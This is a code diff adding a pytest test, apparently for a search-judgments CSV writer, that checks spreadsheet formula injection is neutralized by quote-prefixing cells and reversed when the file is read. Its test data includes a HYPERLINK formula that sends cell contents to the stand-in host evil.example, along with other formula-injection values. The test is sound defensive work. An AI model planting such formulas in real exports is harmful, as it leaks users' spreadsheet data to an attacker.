@@ -1,5 +1,7 @@
 from __future__ import annotations
 
+import csv
+
 import numpy as np
 import pytest
 
@@ -168,6 +170,19 @@ def test_judgments_csv_round_trip_and_bad_row(tmp_path):
     path.write_text("q,p,g\n")
     with pytest.raises(ValueError, match="header"):
         read_judgments(path)
+
+
+def test_judgments_csv_neutralizes_formulas(tmp_path):
+    # A shopper's query is whatever they typed: in a spreadsheet it must stay text, not run.
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "'quoted"]
+    rows = [Judgment(q, "=p1" if i == 0 else "p1", 1, 0.5, 5) for i, q in enumerate(hostile)]
+    path = tmp_path / "j.csv"
+    write_judgments(path, rows)
+    with path.open(newline="", encoding="utf-8") as f:
+        cells = list(csv.reader(f))[1:]
+    assert [c[0] for c in cells] == ["'" + q for q in hostile]
+    assert cells[0][1] == "'=p1"
+    assert read_judgments(path) == rows  # reading gives back what shoppers typed
 
 
 def test_rank_correlation():
